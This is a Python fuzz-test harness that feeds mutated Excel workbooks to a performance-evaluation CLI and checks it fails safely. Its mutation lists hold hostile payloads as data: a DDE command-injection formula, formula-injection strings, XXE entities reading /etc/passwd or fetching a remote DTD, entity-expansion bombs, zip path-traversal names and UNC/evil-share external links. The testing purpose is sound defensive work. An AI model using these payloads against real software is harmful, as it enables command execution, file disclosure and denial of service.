"""A bounded, deterministic fuzz harness over hostile workbooks fed to the CLI in-process.

Each case starts from a good workbook (the bundled sample, its macro variant, a county-shaped
table as ``tests/adopt_fixtures.basic`` builds it, and that table after ``adopt``), applies
one to three mutations picked by a seeded ``random.Random``, and runs the commands a user
would run on it (``check``, ``score -o``, ``report -o``, ``adopt -o``; ``batch`` over groups
of cases). Mutations work on the package XML, so a case builds in milliseconds:

- cell level: text in number cells, full-width digits, huge strings, 1e308, NaN-like text,
  negatives, dates, booleans, error values, formulas (HYPERLINK, DDE, ``@``/SINGLE, external
  ``[1]`` links, array and shared formulas, self references), injection-looking text;
- sheet level: hidden / very hidden, renamed (with and without fixing the names), deleted and
  duplicated sheets, names with ``'`` ``!`` brackets, merges over data, 10,000 blank styled
  rows, copied rows, cleared columns, defined names into other workbooks, whole columns and
  rows, unions, constants;
- package level: truncation, duplicate members, ``../`` and absolute member names, huge
  declared sizes, compression bombs, DTDs and entities, wrong or missing content types and
  relationships,
  shared-string and style indexes out of range, malformed XML, odd compression methods.

Properties asserted on every command run: exit code in {0, 1, 2}; no traceback and no
"内部错误" (the CLI's last-resort catch) in stdout/stderr; every message line is Chinese, no
Python warning reaches the user and no finalizer error is left for the garbage collector;
``--json`` output parses; the input's bytes are unchanged; on exit 2 no output file exists;
an output reported as written is a whole package; no temp file is left in the output folder;
nothing is written outside the command's output folder (the test folder, with the system
temp folder moved inside it, is snapshotted, and traversal targets in /tmp are checked).
Batch also runs once through spawned workers, whose own stderr is checked the same way.

The default run is a fixed set of cases (about a minute on a loaded machine). Set
``PERFEVAL_FUZZ_CASES=N`` for N cases per base and ``PERFEVAL_FUZZ_SEED`` to shift the seeds.
"""

from __future__ import annotations

import contextlib
import gc
import hashlib
import io
import json
import os
import random
import re
import signal
import struct
import sys
import tempfile
import warnings
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from lxml import etree

sys.path.insert(0, str(Path(__file__).parent))

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "workbooks" / "sample_quwo_2021.xlsx"
SAMPLE_XLSM = ROOT / "workbooks" / "sample_quwo_2021.xlsm"

CASES_PER_BASE = int(os.environ.get("PERFEVAL_FUZZ_CASES", "0")) or None
SEED0 = int(os.environ.get("PERFEVAL_FUZZ_SEED", "0"))
DEFAULT_CASES = {"sample": 32, "xlsm": 8, "county": 22, "adopted": 18}
BATCH_GROUP = 8
RUN_LIMIT_S = 60  # one command on one small workbook; longer is a hang

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PNS = "http://schemas.openxmlformats.org/package/2006/relationships"
CJK = re.compile(r"[\u3400-\u9fff\uff01-\uff5e]")
EVIL = "perfeval_fuzz_evil"


# --------------------------------------------------------------------------- the package


class Package:
    """A workbook zip as an ordered list of (member name, bytes), with XML helpers."""

    def __init__(self, data: bytes):
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            self.members = [(i.filename, z.read(i)) for i in z.infolist()]
        self.raw_ops: list = []  # byte-level operations applied after zipping
        self.compress: dict[str, int] = {}
        self.duplicates: list[tuple[str, bytes]] = []

    def names(self) -> list[str]:
        return [n for n, _ in self.members]

    def get(self, name: str) -> bytes | None:
        return next((d for n, d in self.members if n == name), None)

    def set(self, name: str, data: bytes) -> None:
        for i, (n, _) in enumerate(self.members):
            if n == name:
                self.members[i] = (n, data)
                return
        self.members.append((name, data))

    def delete(self, name: str) -> None:
        self.members = [(n, d) for n, d in self.members if n != name]

    def rename(self, old: str, new: str) -> None:
        self.members = [(new if n == old else n, d) for n, d in self.members]

    def xml(self, name: str):
        return etree.fromstring(self.get(name))

    def put_xml(self, name: str, root) -> None:
        self.set(name, etree.tostring(root, xml_declaration=True, encoding="UTF-8",
                                      standalone=True))

    def sheets(self) -> list[tuple[str, str]]:
        """(sheet name, part name) in workbook order."""
        wb = self.xml("xl/workbook.xml")
        rels = self.xml("xl/_rels/workbook.xml.rels")
        targets = {r.get("Id"): r.get("Target") for r in rels}
        out = []
        for s in wb.iter(f"{{{NS}}}sheet"):
            t = targets.get(s.get(f"{{{RNS}}}id"), "")
            part = t.lstrip("/") if t.startswith("/") else "xl/" + t
            out.append((s.get("name"), part))
        return out

    def defined_names(self) -> dict[str, str]:
        wb = self.xml("xl/workbook.xml")
        return {d.get("name"): d.text or "" for d in wb.iter(f"{{{NS}}}definedName")}

    def to_bytes(self) -> bytes:
        buf = io.BytesIO()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # duplicate names are the point
            with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
                for n, d in self.members:
                    z.writestr(zipfile.ZipInfo(n, (2021, 1, 1, 0, 0, 0)), d,
                               compress_type=self.compress.get(n, zipfile.ZIP_DEFLATED))
                for n, d in self.duplicates:
                    z.writestr(zipfile.ZipInfo(n, (2021, 1, 1, 0, 0, 0)), d,
                               compress_type=zipfile.ZIP_DEFLATED)
        data = buf.getvalue()
        for op in self.raw_ops:
            data = op(data)
        return data


def _cell_ref(col: int, row: int) -> str:
    letters = ""
    while col:
        col, rem = divmod(col - 1, 26)
        letters = chr(65 + rem) + letters
    return f"{letters}{row}"


def _split_ref(ref: str) -> tuple[int, int]:
    m = re.fullmatch(r"\$?([A-Z]{1,3})\$?(\d+)", ref)
    col = 0
    for ch in m.group(1):
        col = col * 26 + ord(ch) - 64
    return col, int(m.group(2))


def _find_cell(root, ref: str, create: bool = True):
    """The <c r=ref> element of a worksheet root, created in order when missing."""
    col, row = _split_ref(ref)
    data = root.find(f"{{{NS}}}sheetData")
    row_el = None
    for r in data:
        n = int(r.get("r", "0"))
        if n == row:
            row_el = r
            break
        if n > row:
            if not create:
                return None
            row_el = etree.Element(f"{{{NS}}}row", r=str(row))
            r.addprevious(row_el)
            break
    if row_el is None:
        if not create:
            return None
        row_el = etree.SubElement(data, f"{{{NS}}}row", r=str(row))
    for c in row_el:
        ccol, _ = _split_ref(c.get("r"))
        if ccol == col:
            return c
        if ccol > col:
            if not create:
                return None
            new = etree.Element(f"{{{NS}}}c", r=ref)
            c.addprevious(new)
            return new
    if not create:
        return None
    return etree.SubElement(row_el, f"{{{NS}}}c", r=ref)


def _set_cell(root, ref: str, kind: str, text: str = "", formula: str | None = None,
              fattrs: dict | None = None, style: str | None = None) -> None:
    c = _find_cell(root, ref)
    keep_style = c.get("s")
    for child in list(c):
        c.remove(child)
    for a in list(c.attrib):
        if a != "r":
            del c.attrib[a]
    if style is not None:
        c.set("s", style)
    elif keep_style:
        c.set("s", keep_style)
    if formula is not None:
        f = etree.SubElement(c, f"{{{NS}}}f", **(fattrs or {}))
        f.text = formula
    if kind == "inlineStr":
        c.set("t", "inlineStr")
        is_ = etree.SubElement(c, f"{{{NS}}}is")
        t = etree.SubElement(is_, f"{{{NS}}}t")
        t.text = text
        t.set("{http://www.w3.org/XML/1998/namespace}space", "preserve")
        return
    if kind != "n":
        c.set("t", kind)
    if text is not None and text != "":
        etree.SubElement(c, f"{{{NS}}}v").text = text


# --------------------------------------------------------------------------- cell values

HYPER = 'HYPERLINK("http://example.invalid/x?a="&A1,"点击查看")'
DDE = "cmd|' /C calc'!A0"
INJECT_TEXTS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)",
                "\t=1+1", "\r=1+1", '=HYPERLINK("http://example.invalid","x")']

# Rule and 评分标准 texts at the edges of both readers (rule syntax and county phrasing).
RULE_TEXTS = ["按比例(", "分段(=0:8; >30:0", "按比例(目标=0)", "每超过(1,0.5)", "人工(优=abc)",
              "分段(" + "; ".join(f">{i}:{i}" for i in range(500)) + ")",
              "每低于0%扣1分", "每超过1个百分点扣1e308分", "≤100%得满分；每超过1个百分点扣-5分",
              "100%得20分，90%得10分，80%得100分", "（10分到13分）", "5-3", "得分=实际值/0×分值",
              "达到" + "9" * 60 + "%得满分", "每低于5%扣2分" * 2000, "分值：（５分）", "=0计8分"]

CELL_VALUES = [
    ("text in a number cell", "inlineStr", "一百二十万", None, None),
    ("full-width digits", "inlineStr", "１２３．５", None, None),
    ("full-width percent", "inlineStr", "９８．５％", None, None),
    ("thousands separators", "inlineStr", "1,234.5", None, None),
    ("Chinese comma", "inlineStr", "1，234", None, None),
    ("huge string", "inlineStr", "长" * 40000, None, None),
    ("huge number text", "inlineStr", "9" * 400, None, None),
    ("1e308", "n", "1e308", None, None),
    ("-1e308", "n", "-1e308", None, None),
    ("max float", "n", "1.7976931348623157E+308", None, None),
    ("denormal", "n", "4.9e-324", None, None),
    ("overflowing number", "n", "1e999", None, None),
    ("NaN in a number cell", "n", "NaN", None, None),
    ("INF in a number cell", "n", "INF", None, None),
    ("garbage in a number cell", "n", "abc", None, None),
    ("empty value", "n", "", None, None),
    ("NaN text", "inlineStr", "NaN", None, None),
    ("Infinity text", "inlineStr", "-Infinity", None, None),
    ("negative", "n", "-5", None, None),
    ("negative zero", "n", "-0", None, None),
    ("zero", "n", "0", None, None),
    ("date cell", "d", "2021-12-31T00:00:00", None, None),
    ("bad date cell", "d", "not-a-date", None, None),
    ("boolean true", "b", "1", None, None),
    ("boolean garbage", "b", "yes", None, None),
    ("#N/A", "e", "#N/A", None, None),
    ("#REF!", "e", "#REF!", None, None),
    ("#DIV/0!", "e", "#DIV/0!", None, None),
    ("#VALUE!", "e", "#VALUE!", None, None),
    ("#NAME?", "e", "#NAME?", None, None),
    ("unknown error", "e", "#SPILL!", None, None),
    ("whitespace", "inlineStr", "   ", None, None),
    ("zero-width in number", "inlineStr", "\u200b98.5\ufeff", None, None),
    ("RTL override", "inlineStr", "\u202e58.89", None, None),
    ("emoji", "inlineStr", "😀👍", None, None),
    ("XML-escaped control char", "inlineStr", "_x0001_测试_x001F_", None, None),
    ("percent text", "inlineStr", "50 %", None, None),
    ("HYPERLINK formula", "str", "点击查看", HYPER, None),
    ("HYPERLINK formula, no cache", "n", "", HYPER, None),
    ("DDE formula", "n", "0", DDE, None),
    ("DDE formula, no cache", "n", "", DDE, None),
    ("@ implicit intersection", "n", "3", "_xlfn.SINGLE(SUM(A1:A3))", None),
    ("@ in formula text", "n", "", "@SUM(A1:A3)", None),
    ("external link", "n", "42", "[1]Sheet1!A1", None),
    ("external link, no cache", "n", "", "[1]Sheet1!$A$1*2", None),
    ("external path link", "n", "", "'C:\\evil\\[x.xlsx]S'!A1", None),
    ("array formula", "n", "6", "SUM(A1:A3*B1:B3)", {"t": "array", "ref": "{ref}"}),
    ("array formula, no cache", "n", "", "SUM(1/(A1:A3))", {"t": "array", "ref": "{ref}"}),
    ("dynamic array", "n", "", "_xlfn._xlws.SORT(A1:A3)", {"t": "array", "ref": "{ref}",
                                                         "aca": "1"}),
    ("shared formula master", "n", "", "A1+1", {"t": "shared", "ref": "{ref}", "si": "0"}),
    ("shared formula, unknown si", "n", "", "", {"t": "shared", "si": "77"}),
    ("self reference", "n", "", "{ref}+1", None),
    ("INDIRECT", "n", "", 'INDIRECT("A"&ROW())', None),
    ("deep formula", "n", "", "(" * 300 + "1" + ")" * 300, None),
    ("long formula", "n", "", "+".join(["1"] * 3000), None),
    ("broken formula", "n", "", "SUM(((", None),
    ("formula with string cache", "str", "一百", "A1", None),
    ("formula with error cache", "e", "#N/A", "NA()", None),
    ("huge power", "n", "", "10^308*10", None),
    ("huge repeat", "n", "", 'LEN(REPT("x",2^30))', None),
    ("shared string index", "s", "0", None, None),
] + [(f"injection text {t!r}", "inlineStr", t, None, None) for t in INJECT_TEXTS] + [
    (f"rule text {t[:30]!r}", "inlineStr", t, None, None) for t in RULE_TEXTS]


# --------------------------------------------------------------------------- mutations


@dataclass
class Case:
    base: str
    seed: int
    steps: list[str] = field(default_factory=list)
    evil_paths: list[Path] = field(default_factory=list)  # must not exist after any run
    data: bytes = b""


def _candidate_cells(pkg: Package, rng: random.Random) -> tuple[str, str, str]:
    """(sheet name, part, cell ref): half the time a defined-name cell, else any cell."""
    sheets = dict(pkg.sheets())
    names = pkg.defined_names()
    picks = []
    for text in names.values():
        m = re.fullmatch(r"'?(.+?)'?!\$?([A-Z]+)\$?(\d+)(?::\$?([A-Z]+)\$?(\d+))?", text)
        if m and m.group(1).replace("''", "'") in sheets:
            sheet = m.group(1).replace("''", "'")
            row = int(m.group(3))
            if m.group(5):  # a table: a body cell
                row = rng.randint(row + 1, min(int(m.group(5)), row + 12))
            picks.append((sheet, f"{m.group(2)}{row}"))
    if picks and rng.random() < 0.5:
        sheet, ref = rng.choice(picks)
        return sheet, sheets[sheet], ref
    sheet, part = rng.choice(list(sheets.items()))
    root = pkg.xml(part)
    cells = [c.get("r") for c in root.iter(f"{{{NS}}}c") if len(c)]
    return sheet, part, rng.choice(cells) if cells else "C6"


def m_cell(pkg: Package, rng: random.Random, case: Case) -> str:
    sheet, part, ref = _candidate_cells(pkg, rng)
    label, kind, text, formula, fattrs = rng.choice(CELL_VALUES)
    root = pkg.xml(part)
    if formula is not None:
        formula = formula.replace("{ref}", ref)
    if fattrs:
        fattrs = {k: v.replace("{ref}", ref) for k, v in fattrs.items()}
    _set_cell(root, ref, kind, text, formula, fattrs)
    pkg.put_xml(part, root)
    return f"{label} at '{sheet}'!{ref}"


def m_cells(pkg: Package, rng: random.Random, case: Case) -> str:
    return "; ".join(m_cell(pkg, rng, case) for _ in range(rng.randint(2, 6)))


UNIT_NAMES = ["../../" + EVIL, "..\\..\\" + EVIL, "/tmp/" + EVIL, "CON", "NUL.txt", "..",
              "a/b\\c:d*e?f\"g<h>i|j", "单位" * 200, " 尾部空格. ", "\u202e单位", "=1+1"]


def m_unit_name(pkg: Package, rng: random.Random, case: Case) -> str:
    """A unit name that is a path trick: batch and report build file names from it."""
    text = pkg.defined_names().get("unit_name", "")
    m = re.fullmatch(r"'?(.+?)'?!\$?([A-Z]+)\$?(\d+)", text)
    sheets = dict(pkg.sheets())
    if not m or m.group(1).replace("''", "'") not in sheets:
        return "no unit_name cell"
    sheet = m.group(1).replace("''", "'")
    name = rng.choice(UNIT_NAMES)
    root = pkg.xml(sheets[sheet])
    _set_cell(root, f"{m.group(2)}{m.group(3)}", "inlineStr", name)
    pkg.put_xml(sheets[sheet], root)
    case.evil_paths.append(Path("/tmp") / EVIL)
    return f"unit name {name[:40]!r}"


def m_hide(pkg: Package, rng: random.Random, case: Case) -> str:
    wb = pkg.xml("xl/workbook.xml")
    sheets = list(wb.iter(f"{{{NS}}}sheet"))
    s = rng.choice(sheets)
    state = rng.choice(["hidden", "veryHidden", "bogus"])
    s.set("state", state)
    pkg.put_xml("xl/workbook.xml", wb)
    return f"sheet {s.get('name')!r} {state}"


HOSTILE_SHEET_NAMES = ["预算'执行", "预算!执行", "[1]预算执行", "预算执行 ", "'预算", "校验结果",
                       "History", "a" * 40, "预算\u202e执行", "预/算", "Sheet1", ""]


def _quote(name: str) -> str:
    return "'" + name.replace("'", "''") + "'"


def m_rename(pkg: Package, rng: random.Random, case: Case) -> str:
    wb = pkg.xml("xl/workbook.xml")
    sheets = list(wb.iter(f"{{{NS}}}sheet"))
    s = rng.choice(sheets)
    old = s.get("name")
    new = rng.choice(HOSTILE_SHEET_NAMES)
    s.set("name", new)
    fix = rng.random() < 0.6
    if fix:  # rewrite the defined names and formulas too, as Excel would
        pat = re.compile(re.escape(_quote(old)) + "!|" + re.escape(old) + "!")
        for d in wb.iter(f"{{{NS}}}definedName"):
            d.text = pat.sub(lambda _m: _quote(new) + "!", d.text or "")
        for _, part in pkg.sheets():
            data = pkg.get(part)
            if data is None:
                continue
            root = etree.fromstring(data)
            for f in root.iter(f"{{{NS}}}f"):
                if f.text:
                    f.text = pat.sub(lambda _m: _quote(new) + "!", f.text)
            pkg.put_xml(part, root)
    pkg.put_xml("xl/workbook.xml", wb)
    return f"sheet {old!r} renamed {new!r}" + (" with names fixed" if fix else "")


def m_delete_sheet(pkg: Package, rng: random.Random, case: Case) -> str:
    wb = pkg.xml("xl/workbook.xml")
    sheets = list(wb.iter(f"{{{NS}}}sheet"))
    s = rng.choice(sheets)
    how = rng.choice(["entry", "part", "both"])
    if how in ("entry", "both"):
        s.getparent().remove(s)
        pkg.put_xml("xl/workbook.xml", wb)
    if how in ("part", "both"):
        part = dict(pkg.sheets()).get(s.get("name"))
        if part:
            pkg.delete(part)
    return f"sheet {s.get('name')!r} deleted ({how})"


def m_duplicate_sheet_name(pkg: Package, rng: random.Random, case: Case) -> str:
    wb = pkg.xml("xl/workbook.xml")
    sheets = list(wb.iter(f"{{{NS}}}sheet"))
    a, b = rng.sample(sheets, 2)
    b.set("name", a.get("name"))
    pkg.put_xml("xl/workbook.xml", wb)
    return f"two sheets named {a.get('name')!r}"


def m_merge(pkg: Package, rng: random.Random, case: Case) -> str:
    sheet, part, ref = _candidate_cells(pkg, rng)
    col, row = _split_ref(ref)
    c0, r0 = max(1, col - rng.randint(0, 2)), max(1, row - rng.randint(0, 3))
    rng_ref = f"{_cell_ref(c0, r0)}:{_cell_ref(col + rng.randint(0, 3), row + rng.randint(0, 6))}"
    root = pkg.xml(part)
    merges = root.find(f"{{{NS}}}mergeCells")
    if merges is None:
        merges = etree.Element(f"{{{NS}}}mergeCells")
        root.find(f"{{{NS}}}sheetData").addnext(merges)
    etree.SubElement(merges, f"{{{NS}}}mergeCell", ref=rng_ref)
    if rng.random() < 0.3:  # a second, overlapping merge
        etree.SubElement(merges, f"{{{NS}}}mergeCell", ref=f"{ref}:{_cell_ref(col + 1, row + 1)}")
    merges.set("count", str(len(merges)))
    pkg.put_xml(part, root)
    return f"merge {rng_ref} over data in {sheet!r}"


def m_styled_rows(pkg: Package, rng: random.Random, case: Case) -> str:
    sheet, part = rng.choice(pkg.sheets())
    root = pkg.xml(part)
    data = root.find(f"{{{NS}}}sheetData")
    last = max((int(r.get("r", "0")) for r in data), default=0)
    for r in range(last + 1, last + 10001):
        row = etree.SubElement(data, f"{{{NS}}}row", r=str(r), s="1", customFormat="1")
        if r % 2:
            etree.SubElement(row, f"{{{NS}}}c", r=f"C{r}", s="1")
    pkg.put_xml(part, root)
    return f"10,000 blank styled rows in {sheet!r}"


def m_duplicate_row(pkg: Package, rng: random.Random, case: Case) -> str:
    """A row copied below the data (an indicator entered twice, a pasted block)."""
    import copy

    sheet, part = rng.choice(pkg.sheets())
    root = pkg.xml(part)
    data = root.find(f"{{{NS}}}sheetData")
    rows = [r for r in data if len(r)]
    if not rows:
        return f"no row to copy in {sheet!r}"
    src = rng.choice(rows)
    new_no = max(int(r.get("r", "0")) for r in data) + rng.randint(1, 3)
    row = copy.deepcopy(src)
    row.set("r", str(new_no))
    for c in row:
        col, _ = _split_ref(c.get("r"))
        c.set("r", _cell_ref(col, new_no))
        for f in c.findall(f"{{{NS}}}f"):  # a shared formula's copy would claim the master
            if f.get("t") == "shared":
                c.remove(f)
    data.append(row)
    pkg.put_xml(part, root)
    return f"row {src.get('r')} of {sheet!r} copied to row {new_no}"


def m_clear_column(pkg: Package, rng: random.Random, case: Case) -> str:
    """Every cell of one column below the title rows removed (a column deleted by hand)."""
    sheet, part = rng.choice(pkg.sheets())
    root = pkg.xml(part)
    cols = sorted({_split_ref(c.get("r"))[0] for c in root.iter(f"{{{NS}}}c") if c.get("r")})
    if not cols:
        return f"no column in {sheet!r}"
    col = rng.choice(cols)
    for c in list(root.iter(f"{{{NS}}}c")):
        ccol, row = _split_ref(c.get("r")) if c.get("r") else (0, 0)
        if ccol == col and row > 2:
            c.getparent().remove(c)
    pkg.put_xml(part, root)
    return f"column {_cell_ref(col, 1)[:-1]} of {sheet!r} cleared"


NAME_TARGETS = ["[1]Sheet1!$A$1", "'[evil.xlsx]Sheet1'!$A$1", "'C:\\evil\\[x.xlsx]S'!$A$1",
                "'\\\\server\\share\\[x.xlsx]S'!$A$1", "{sheet}!$C:$C", "{sheet}!$5:$5",
                "{sheet}!$A$1:$XFD$1048576", "#REF!", "'不存在'!$A$1", '"abc"', "42",
                "OFFSET({sheet}!$C$6,0,0)", "{sheet}!$C$6,{sheet}!$C$7", DDE,
                "{sheet}!$C$6:$C$5", "{sheet}!$ZZZ$9999999", ""]


def m_defined_name(pkg: Package, rng: random.Random, case: Case) -> str:
    wb = pkg.xml("xl/workbook.xml")
    names = list(wb.iter(f"{{{NS}}}definedName"))
    if not names:
        holder = wb.find(f"{{{NS}}}definedNames")
        if holder is None:
            holder = etree.SubElement(wb, f"{{{NS}}}definedNames")
        names = [etree.SubElement(holder, f"{{{NS}}}definedName", name="unit_name")]
    d = rng.choice(names)
    sheet = _quote(rng.choice(pkg.sheets())[0])
    target = rng.choice(NAME_TARGETS).replace("{sheet}", sheet)
    how = rng.choice(["replace", "duplicate", "local"])
    if how == "replace":
        d.text = target
    else:
        new = etree.Element(f"{{{NS}}}definedName", name=d.get("name"))
        new.text = target
        if how == "local":
            new.set("localSheetId", str(rng.randint(0, 40)))
        d.addnext(new)
    pkg.put_xml("xl/workbook.xml", wb)
    return f"name {d.get('name')} -> {target!r} ({how})"


def m_external_link(pkg: Package, rng: random.Random, case: Case) -> str:
    ct = pkg.xml("[Content_Types].xml")
    etree.SubElement(ct, "{http://schemas.openxmlformats.org/package/2006/content-types}Override",
                     PartName="/xl/externalLinks/externalLink1.xml",
                     ContentType="application/vnd.openxmlformats-officedocument."
                                 "spreadsheetml.externalLink+xml")
    pkg.put_xml("[Content_Types].xml", ct)
    pkg.set("xl/externalLinks/externalLink1.xml", (
        f'<externalLink xmlns="{NS}" xmlns:r="{RNS}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>').encode())
    target = rng.choice(["file:///C:/evil/x.xlsx", "../../../etc/passwd",
                         "\\\\evil.invalid\\share\\x.xlsx", "http://example.invalid/x.xlsx"])
    pkg.set("xl/externalLinks/_rels/externalLink1.xml.rels", (
        f'<Relationships xmlns="{PNS}"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        f'Target="{target}" TargetMode="External"/></Relationships>').encode())
    rels = pkg.xml("xl/_rels/workbook.xml.rels")
    etree.SubElement(rels, f"{{{PNS}}}Relationship", Id="rIdExt1", Target="externalLinks/"
                     "externalLink1.xml", Type="http://schemas.openxmlformats.org/"
                     "officeDocument/2006/relationships/externalLink")
    pkg.put_xml("xl/_rels/workbook.xml.rels", rels)
    wb = pkg.xml("xl/workbook.xml")
    ext = etree.Element(f"{{{NS}}}externalReferences")
    etree.SubElement(ext, f"{{{NS}}}externalReference").set(f"{{{RNS}}}id", "rIdExt1")
    anchor = wb.find(f"{{{NS}}}sheets")
    anchor.addnext(ext)
    pkg.put_xml("xl/workbook.xml", wb)
    sheet, part, ref = _candidate_cells(pkg, rng)
    root = pkg.xml(part)
    _set_cell(root, ref, "n", rng.choice(["", "7"]), "[1]Sheet1!$A$1")
    pkg.put_xml(part, root)
    return f"external link {target!r} used at '{sheet}'!{ref}"


def m_truncate(pkg: Package, rng: random.Random, case: Case) -> str:
    frac = rng.choice([0.1, 0.5, 0.9, 0.99])
    pkg.raw_ops.append(lambda data: data[: int(len(data) * frac)])
    return f"truncated to {frac:.0%}"


def m_duplicate_member(pkg: Package, rng: random.Random, case: Case) -> str:
    name = rng.choice([n for n in pkg.names() if n.endswith(".xml")])
    pkg.duplicates.append((name, rng.choice([b"", b"<x/>", pkg.get(name)[: 100]])))
    return f"duplicate member {name}"


def m_traversal(pkg: Package, rng: random.Random, case: Case) -> str:
    token = f"{EVIL}_{case.base}_{case.seed}"
    name = rng.choice([f"../{token}.txt", f"../../{token}.txt", f"/tmp/{token}.txt",
                       f"..\\..\\{token}.txt", f"xl/../../{token}.xml", f"C:/{token}.txt",
                       f"xl/worksheets/../../../{token}.xml"])
    pkg.set(name, b"<evil/>")
    case.evil_paths.append(Path("/tmp") / f"{token}.txt")
    if rng.random() < 0.5:  # and point a relationship at it
        rels = pkg.xml("xl/_rels/workbook.xml.rels")
        etree.SubElement(rels, f"{{{PNS}}}Relationship", Id="rIdEvil", Target=name,
                         Type="http://schemas.openxmlformats.org/officeDocument/2006/"
                              "relationships/worksheet")
        pkg.put_xml("xl/_rels/workbook.xml.rels", rels)
    return f"member {name!r}"


def m_sheet_part_outside(pkg: Package, rng: random.Random, case: Case) -> str:
    """A worksheet relationship whose target climbs out of the package or is absolute."""
    rels = pkg.xml("xl/_rels/workbook.xml.rels")
    sheet_rels = [r for r in rels if r.get("Target", "").startswith("worksheets/")]
    r = rng.choice(sheet_rels)
    old = "xl/" + r.get("Target")
    target = rng.choice(["../../../../etc/passwd", "/etc/passwd", "/" + old,
                         "file:///etc/passwd"])
    r.set("Target", target)
    if target.startswith("file:") or rng.random() < 0.3:
        r.set("TargetMode", "External")
    pkg.put_xml("xl/_rels/workbook.xml.rels", rels)
    return f"sheet relationship {old} -> {target!r}"


def _patch_sizes(data: bytes, which: str) -> bytes:
    """Claim a huge uncompressed size for one member in the central directory."""
    out = bytearray(data)
    pos = out.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", out, pos + 28)[0]
        name = bytes(out[pos + 46: pos + 46 + name_len]).decode("utf-8", "replace")
        if name == which:
            struct.pack_into("<I", out, pos + 24, 0xFFFFFFF0)
        pos = out.find(b"PK\x01\x02", pos + 4)
    return bytes(out)


def m_huge_size(pkg: Package, rng: random.Random, case: Case) -> str:
    name = rng.choice(pkg.names())
    pkg.raw_ops.append(lambda data: _patch_sizes(data, name))
    return f"huge declared size for {name}"


DTDS = [
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY e "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.invalid/x.dtd"> %p;]>',
    '<!DOCTYPE x SYSTEM "http://example.invalid/x.dtd">',
    '<!DOCTYPE x [<!ENTITY e "正常文本">]>',
]


def m_dtd(pkg: Package, rng: random.Random, case: Case) -> str:
    name = rng.choice([n for n in pkg.names() if n.endswith((".xml", ".rels"))])
    data = pkg.get(name)
    dtd = rng.choice(DTDS).encode()
    body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", data)
    if b"&e;" not in body and b"ENTITY e" in dtd:
        body = body.replace(b"<t>", b"<t>&e;", 1) if b"<t>" in body else body
    pkg.set(name, b'<?xml version="1.0" encoding="UTF-8"?>\n' + dtd + b"\n" + body)
    return f"DTD in {name}"


def m_content_types(pkg: Package, rng: random.Random, case: Case) -> str:
    how = rng.choice(["missing", "garbage", "workbook-as-docx", "no-sheet-override",
                      "macro-type"])
    if how == "missing":
        pkg.delete("[Content_Types].xml")
    elif how == "garbage":
        pkg.set("[Content_Types].xml", b"\xff\xfe not xml")
    else:
        ct = pkg.xml("[Content_Types].xml")
        for o in list(ct):
            part = o.get("PartName", "")
            if how == "workbook-as-docx" and part == "/xl/workbook.xml":
                o.set("ContentType", "application/vnd.openxmlformats-officedocument."
                                     "wordprocessingml.document.main+xml")
            elif how == "macro-type" and part == "/xl/workbook.xml":
                o.set("ContentType", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            elif how == "no-sheet-override" and "worksheets" in part:
                ct.remove(o)
        pkg.put_xml("[Content_Types].xml", ct)
    return f"content types {how}"


def m_missing_part(pkg: Package, rng: random.Random, case: Case) -> str:
    name = rng.choice(["xl/_rels/workbook.xml.rels", "_rels/.rels", "xl/styles.xml",
                       "xl/workbook.xml", "xl/theme/theme1.xml", "docProps/core.xml"])
    pkg.delete(name)
    return f"missing {name}"


def _ensure_shared_strings(pkg: Package, count: int = 1) -> None:
    if pkg.get("xl/sharedStrings.xml") is not None:
        return
    sis = "".join(f"<si><t>共享{i}</t></si>" for i in range(count))
    pkg.set("xl/sharedStrings.xml",
            f'<sst xmlns="{NS}" count="{count}" uniqueCount="{count}">{sis}</sst>'.encode())
    ct = pkg.xml("[Content_Types].xml")
    etree.SubElement(ct, "{http://schemas.openxmlformats.org/package/2006/content-types}Override",
                     PartName="/xl/sharedStrings.xml",
                     ContentType="application/vnd.openxmlformats-officedocument."
                                 "spreadsheetml.sharedStrings+xml")
    pkg.put_xml("[Content_Types].xml", ct)
    rels = pkg.xml("xl/_rels/workbook.xml.rels")
    etree.SubElement(rels, f"{{{PNS}}}Relationship", Id="rIdSst", Target="sharedStrings.xml",
                     Type="http://schemas.openxmlformats.org/officeDocument/2006/"
                          "relationships/sharedStrings")
    pkg.put_xml("xl/_rels/workbook.xml.rels", rels)


def m_shared_string_index(pkg: Package, rng: random.Random, case: Case) -> str:
    with_part = rng.random() < 0.8
    if with_part:
        _ensure_shared_strings(pkg)
    steps = []
    for _ in range(rng.randint(1, 3)):
        sheet, part, ref = _candidate_cells(pkg, rng)
        index = rng.choice(["999999", "-1", "1", "abc", "", "1.5", "4294967296"])
        root = pkg.xml(part)
        _set_cell(root, ref, "s", index)
        pkg.put_xml(part, root)
        steps.append(f"'{sheet}'!{ref}={index!r}")
    return ("shared string index " if with_part else "shared strings missing, index ") + \
        ", ".join(steps)


def m_style_index(pkg: Package, rng: random.Random, case: Case) -> str:
    steps = []
    for _ in range(rng.randint(1, 4)):
        sheet, part, ref = _candidate_cells(pkg, rng)
        root = pkg.xml(part)
        c = _find_cell(root, ref)
        s = rng.choice(["99999", "-1", "x", "4294967296"])
        c.set("s", s)
        pkg.put_xml(part, root)
        steps.append(f"'{sheet}'!{ref} s={s}")
    if rng.random() < 0.3:  # a cell format pointing at a missing number format
        styles = pkg.get("xl/styles.xml")
        if styles:
